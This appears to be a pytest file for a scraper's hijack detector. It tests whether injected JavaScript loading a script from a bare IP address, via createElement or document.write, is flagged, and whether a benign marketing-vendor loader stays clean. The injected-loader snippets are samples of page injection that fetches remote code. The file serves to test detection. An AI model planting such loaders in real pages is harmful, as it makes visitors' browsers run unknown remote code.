"""A script that builds one <script> of a root address (a host and one path token) in every view,
from a host nothing else of the page names (v44 §1 B1's last swap: rc44b's numeric-IP load made by
createElement instead of document.write). The written tag flags (scripts.constant_written_load);
the created one is not read, and no reading of it passed the acceptance rule (inserted.py's note
above its loads loop): the same act is how marketing and ad vendors load their code. The spam form
is a strict xfail, the static form and the vendor's form are asserted as they stand."""
from __future__ import annotations

import pytest

from scraper.clean import clean_page
from tests.clean.conftest import load

_CREATED = (b'var s = document.createElement("script");\n  s.src = "http://203.0.113.46/kQ7vRz";\n'
            b'  document.getElementsByTagName("head")[0].appendChild(s);')


def test_the_same_load_written_by_document_write_flags():
    html = load("created-ip-loader.html").replace(
        b"(function () {\n  " + _CREATED + b"\n})();",
        b"document.write('<script src=\"http://203.0.113.46/kQ7vRz\"></scr' + 'ipt>');")
    assert b"document.write" in html
    a = clean_page(html, url="https://www.qingshan.gov.cn/info/2024/0316/2.htm")
    assert a.hijacked and any("203.0.113.46" in f.evidence for f in a.findings), a.findings


@pytest.mark.xfail(strict=True, reason="a created load of a root address is not judged (v44 §1 B1, s39 measured)")
def test_a_created_load_of_a_numeric_host_nothing_else_names_flags(clean):
    a = clean("created-ip-loader.html")
    assert a.hijacked and any("203.0.113.46" in f.evidence for f in a.findings), a.findings


def test_a_vendors_loader_of_a_root_file_from_a_host_nothing_else_names_stays_clean():
    # a marketing-automation snippet: one created <script> of a root file, every visitor alike
    html = load("created-ip-loader.html").replace(b"http://203.0.113.46/kQ7vRz", b"//munchkin.leadvendor.example/munchkin.js")
    a = clean_page(html, url="https://www.qingshan.gov.cn/info/2024/0316/2.htm")
    assert not a.hijacked and a.findings == [], a.findings
